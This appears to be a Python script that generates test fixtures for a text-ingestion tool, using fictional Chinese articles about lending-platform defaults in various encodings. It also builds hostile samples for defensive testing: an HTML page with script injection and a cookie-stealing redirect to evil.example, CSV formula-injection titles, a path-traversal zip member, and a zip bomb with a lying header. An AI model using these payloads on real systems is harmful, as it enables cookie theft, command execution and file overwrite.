"""The bad-input corpus: files that go wrong in the wild, and the texts they must decode to.

The small files are committed under `tests/bad_inputs/` (one per encoding or format); this
module is their source of truth (`tests/test_bad_input.py` checks the committed bytes still
equal what `write_small` produces). Anything big or binary (the 20 MB text file, a binary
file, a zip with a `../../evil.txt` member, undecidable bytes) is never committed: `write_large`
makes it at test time in a temporary folder.

Every article is invented for this corpus (online-lending genre: 逾期, 违约, 成立于…); company
names, people, figures and dates are fictional.

    python tests/make_bad_inputs.py            # rewrite tests/bad_inputs/ (small files only)
    python tests/make_bad_inputs.py OUT_DIR    # write the whole corpus, big files included, to OUT_DIR
"""
from __future__ import annotations

import codecs
import io
import json
import random
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "bad_inputs"

# --- article texts (exact originals; each fixture must decode back to one of these) -----------

#: GBK, Simplified, rare characters 喆 堃 恒 (all in GBK).
GBK_RARE = """鑫融贷逾期金额超过1亿元 借款人称遭暴力催收
发布时间：2024-10-12 | 来源：网贷观察
鑫融贷成立于2015年，总部位于上海，注册资本为5000万元。据平台披露的数据，截至2024年9月，鑫融贷逾期金额超过1亿元，逾期率为6.2%。
借款人张喆表示，自己2023年在该平台借款3万元，因资金周转困难违约两个月后，每天接到十多个催收电话。另一名借款人王堃称，平台客服多次承诺可以协商延期还款，却始终没有兑现。
律师李恒认为，平台应当如实公开逾期数据，对违约借款人的催收也必须依法进行。
"""

#: Plain Big5, Traditional. Big5 has neither 喆 nor 堃, so this one carries 恆 (the Big5 form).
BIG5_PLAIN = """安信貸逾期率升至7.5% 多名借款人投訴
網貸逾期 2024-06-03 14:20:00
安信貸成立於2016年，總部位於廣州，註冊資本為3000萬元。截至2024年5月，安信貸逾期金額為8600萬元，逾期率達7.5%，較去年同期上升了2個百分點。
借款人陳恆向記者表示，他在平台借款2萬元，逾期三十天後被收取了高額違約金。平台客服回應稱，違約金比例為每日0.05%，符合借款合同的約定。
業內人士指出，網貸平台應當向借款人清楚說明逾期後果，避免糾紛進一步擴大。
"""

#: Big5-HKSCS, Traditional, rare characters 喆 堃 恒 (HKSCS has them, plain Big5 does not).
BIG5HKSCS_RARE = """恒通金融違約事件調查：逾期金額超過1億元
發布時間：2024-08-21 | 來源：財經觀察
恒通金融成立於2015年，總部位於深圳。截至2024年6月，恒通金融逾期金額超過1億元，涉及借款人約1.2萬名。
借款人林喆說，他在2022年借款5萬元，按時還款一年後因失業違約，平台隨即上門催收。借款人黃堃則表示，平台收取的服務費沒有寫進合同。
恒通金融回應稱，公司已成立專門小組處理逾期問題，並將於年底前公布整改方案。
"""

#: UTF-16 (little-endian with a BOM, as Windows Notepad saves "Unicode"), Simplified.
UTF16_BOM = """汇诚普惠逾期一年多 平台称正在清退
发布时间：2024-11-05 | 来源：网贷之家
汇诚普惠成立于2014年，总部位于杭州，注册资本为1亿元。截至2024年10月，汇诚普惠逾期贷款余额为6800万元，逾期率为4.8%。
多名出借人反映，平台自2023年初起便无法按期兑付，部分项目逾期已超过一年。平台方面表示，目前已与借款人达成还款协议，预计在2025年底前完成清退。
"""

#: UTF-16LE without a BOM (some exporters write it so), Simplified, 喆 堃 恒.
UTF16LE_NOBOM = """宏信钱包逾期超过3个月 借款人集体投诉
宏信钱包成立于2018年，总部位于南京。截至2024年7月，宏信钱包逾期金额为4200万元，逾期率为9.1%。
借款人赵喆和周堃表示，平台在他们违约后把催收短信发给了通讯录里的亲友。平台客服吴恒称，相关外包催收公司已被停止合作。
"""

#: UTF-8 with a BOM (what Windows Notepad writes as "UTF-8"), Simplified.
UTF8_BOM = """聚财宝违约率为3.2% 借款人投诉量上升
网贷逾期 2024-09-18 10:05:33
聚财宝成立于2017年，总部位于成都。截至2024年8月，聚财宝累计借贷金额超过50亿元，违约率为3.2%，逾期金额约为9000万元。
据投诉平台统计，2024年以来针对聚财宝的投诉量为1260件，主要涉及暴力催收和服务费过高。聚财宝称将加强对第三方催收机构的管理。
"""

#: UTF-8, in a file whose name has Chinese characters and spaces.
CHINESE_NAME = "利信 金融 报道.txt"
CHINESE_NAME_TEXT = """利信金融逾期问题追踪
发布时间：2025-02-10 | 来源：消费维权观察
利信金融成立于2015年，总部位于深圳，注册资本为2000万元。截至2024年12月，利信金融逾期率为3.9%，逾期金额超过1亿元。
记者调查发现，2024年下半年针对利信金融的投诉主要集中在服务费和催收方式上。利信金融回应称，已经下调了部分产品的服务费，并承诺不再委托第三方上门催收。
"""

#: HTML with a script in the head and the body, an onerror handler and a javascript: link.
HTML_VISIBLE = [
    "融通小贷违约调查",
    "融通小贷成立于2012年，总部位于重庆，注册资本为3亿元。",
    "截至2024年6月，融通小贷逾期金额超过1亿元，逾期率为5.6%。",
    "多名借款人称，平台在其违约后收取了合同之外的费用。",
    "查看原文",
]
HTML = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{HTML_VISIBLE[0]}</title>
<script>alert(1)</script>
<style>p {{ color: red }}</style></head>
<body>
<h1>{HTML_VISIBLE[0]}</h1>
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<p>{HTML_VISIBLE[1]}</p>
<p>{HTML_VISIBLE[2]}<script>document.location='http://evil.example/?c='+document.cookie</script></p>
<p onmouseover="alert(2)">{HTML_VISIBLE[3]}</p>
<p><a href="javascript:alert(3)">{HTML_VISIBLE[4]}</a></p>
</body></html>
"""

#: CSV rows: a =HYPERLINK title, a +cmd title, and a plain row.
CSV_HYPERLINK = '=HYPERLINK("http://evil.example/steal","点击查看详情")'
CSV_CMD = "+cmd|' /C calc'!A0"
CSV_ROWS = [
    {"id": "row-1", "title": CSV_HYPERLINK,
     "text": "金信贷成立于2016年，总部位于武汉。截至2024年3月，金信贷逾期金额为7300万元，逾期率为8.4%。"},
    {"id": "row-2", "title": CSV_CMD,
     "text": "鼎盛普惠成立于2015年，总部位于西安。截至2024年4月，鼎盛普惠逾期金额超过1亿元，违约借款人超过3000人。"},
    {"id": "row-3", "title": "华瑞金融逾期情况通报",
     "text": "华瑞金融成立于2013年，总部位于天津。截至2024年5月，华瑞金融逾期率为2.7%，逾期金额为5600万元。"},
]

#: JSON lines: line 2 is cut off in the middle of a string (a broken scrape).
JSONL_ROWS = [
    {"id": "jl-1", "title": "速融宝逾期调查",
     "text": "速融宝成立于2019年，总部位于长沙。截至2024年2月，速融宝逾期金额为3100万元，逾期率为11.2%。"},
    None,  # the broken line
    {"id": "jl-3", "title": "信达钱庄违约通报",
     "text": "信达钱庄成立于2015年，总部位于郑州。截至2024年1月，信达钱庄逾期金额超过1亿元，违约率为4.4%。"},
]
JSONL_BROKEN_LINE = '{"id": "jl-2", "title": "坏掉的一行", "text": "宜贷通成立于2017年，截至2024年逾期金额为'

#: The good member of the zip (next to ../../evil.txt).
ZIP_GOOD_MEMBER = "good/汇丰贷.txt"
ZIP_GOOD_TEXT = """汇丰贷逾期金额为2.3亿元
汇丰贷成立于2014年，总部位于苏州。截至2024年9月，汇丰贷逾期金额为2.3亿元，逾期率为6.9%，平台称已启动债务重组。
"""
ZIP_EVIL_MEMBER = "../../evil.txt"
ZIP_EVIL_TEXT = "恶意文件：如果你在数据文件夹之外看到这行字，说明解压时发生了路径穿越。逾期金额为1亿元。\n"

#: name -> (the exact decoded text, the bytes written) for the plain-text fixtures.
TEXT_FIXTURES: dict[str, tuple[str, bytes]] = {
    "gbk_rare.txt": (GBK_RARE, GBK_RARE.encode("gbk")),
    "big5_plain.txt": (BIG5_PLAIN, BIG5_PLAIN.encode("big5")),
    "big5hkscs_rare.txt": (BIG5HKSCS_RARE, BIG5HKSCS_RARE.encode("big5hkscs")),
    "utf16_bom.txt": (UTF16_BOM, codecs.BOM_UTF16_LE + UTF16_BOM.encode("utf-16-le")),
    "utf16le_nobom.txt": (UTF16LE_NOBOM, UTF16LE_NOBOM.encode("utf-16-le")),
    "utf8_bom.txt": (UTF8_BOM, codecs.BOM_UTF8 + UTF8_BOM.encode("utf-8")),
    CHINESE_NAME: (CHINESE_NAME_TEXT, CHINESE_NAME_TEXT.encode("utf-8")),
}

BIG_NAME = "big_20mb.txt"
BIG_SIZE = 20_000_000  # "20 MB" as the size limit message counts it (10**6 bytes per MB)


def small_files() -> dict[str, bytes]:
    """The committed corpus: file name -> bytes."""
    out = {name: data for name, (_, data) in TEXT_FIXTURES.items()}
    out["empty.txt"] = b""
    out["whitespace.txt"] = b"   \r\n\t\n  \xe3\x80\x80 \n"  # spaces, tabs, CRLF and an ideographic space
    out["script.html"] = HTML.encode("utf-8")
    buf = io.StringIO()
    buf.write("id,title,text\r\n")
    for row in CSV_ROWS:
        buf.write(",".join('"' + row[k].replace('"', '""') + '"' for k in ("id", "title", "text")) + "\r\n")
    out["formulas.csv"] = buf.getvalue().encode("utf-8")
    lines = [json.dumps(r, ensure_ascii=False) if r else JSONL_BROKEN_LINE for r in JSONL_ROWS]
    out["one_broken_line.jsonl"] = ("\n".join(lines) + "\n").encode("utf-8")
    return out


def undecidable_bytes(n: int = 1200, seed: int = 7) -> bytes:
    """Random high bytes, pairs in the GBK/3 area (lead 0x81-0xA0, trail 0x40-0x7E): they decode
    without error as GB18030 (rare characters), as UTF-16 (random CJK and Hangul) and more,
    but none of those readings is plausible Chinese."""
    r = random.Random(seed)
    return bytes(r.randrange(0x81, 0xA1) if i % 2 == 0 else r.randrange(0x40, 0x7F) for i in range(n))


def random_common_bytes(n: int = 1200, seed: int = 7) -> bytes:
    """Random pairs in the GB2312 hanzi area (lead 0xB0-0xF7, trail 0xA1-0xFE): they decode as
    GB18030/GBK to random *common* characters (and as cp1252 and Latin-1). Each character is
    common; together they are word salad, not an article."""
    r = random.Random(seed)
    return bytes(r.randrange(0xB0, 0xF8) if i % 2 == 0 else r.randrange(0xA1, 0xFF) for i in range(n))


def binary_bytes(n: int = 8192, seed: int = 3) -> bytes:
    """A PNG-like binary blob (what a mis-named screenshot looks like)."""
    r = random.Random(seed)
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(r.randrange(256) for _ in range(n))


def zip_bytes() -> bytes:
    """A zip with a path-traversal member `../../evil.txt` next to a good article."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo(ZIP_EVIL_MEMBER), ZIP_EVIL_TEXT.encode("utf-8"))
        z.writestr(zipfile.ZipInfo(ZIP_GOOD_MEMBER), ZIP_GOOD_TEXT.encode("utf-8"))
    data = buf.getvalue()
    assert ZIP_EVIL_MEMBER.encode() in data  # zipfile kept the name as given
    return data


def lying_zip(real: int = 60_000_000, declared: int = 1000, name: str = "bomb.txt") -> bytes:
    """A zip whose central directory says its member is `declared` bytes while the member really
    inflates to `real` bytes of article text (what a zip bomb does to `ZipFile.read`)."""
    import zlib

    unit = (GBK_RARE * 20).encode("utf-8")
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    payload, left = [], real
    while left > 0:
        chunk = (unit * (1 + (1 << 20) // len(unit)))[:min(left, 1 << 20)]
        payload.append(comp.compress(chunk))
        left -= len(chunk)
    payload.append(comp.flush())
    body = b"".join(payload)
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    info.CRC, info.compress_size, info.file_size = zlib.crc32(b"x" * declared), len(body), declared
    buf = io.BytesIO()
    info.header_offset = 0
    with zipfile.ZipFile(buf, "w") as z:  # write the entry by hand so the header can lie
        z.fp.write(info.FileHeader())
        z.fp.write(body)
        z.filelist.append(info)
        z.NameToInfo[name] = info
        z.start_dir = z.fp.tell()
    return buf.getvalue()


def write_big(path: Path, size: int = BIG_SIZE) -> Path:
    """A real UTF-8 text file of exactly `size` bytes: whole copies of an article, then ASCII
    newlines to make up the size (so no character is cut). Written in 1 MB chunks."""
    unit = (GBK_RARE + "\n").encode("utf-8")
    chunk = unit * (1024 * 1024 // len(unit))
    with open(path, "wb") as f:
        left = size
        while left >= len(chunk):
            f.write(chunk)
            left -= len(chunk)
        f.write(unit * (left // len(unit)) + b"\n" * (left % len(unit)))
    assert path.stat().st_size == size
    return path


def large_files() -> dict[str, bytes]:
    """The binary fixtures made at test time, never committed (the 20 MB file is `write_big`): name -> bytes."""
    return {
        "screenshot.txt": binary_bytes(),
        "evil.zip": zip_bytes(),
        "undecidable.txt": undecidable_bytes(),
        "word_salad.txt": random_common_bytes(),
    }


def write_small(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for name, data in small_files().items():
        (folder / name).write_bytes(data)
        out.append(folder / name)
    return out


def write_large(folder: Path, big: bool = True) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for name, data in large_files().items():
        (folder / name).write_bytes(data)
        out.append(folder / name)
    if big:
        out.append(write_big(folder / BIG_NAME))
    return out


if __name__ == "__main__":
    if len(sys.argv) > 1:
        target = Path(sys.argv[1])
        write_small(target)
        write_large(target)
    else:
        write_small(CORPUS)
    print("written")
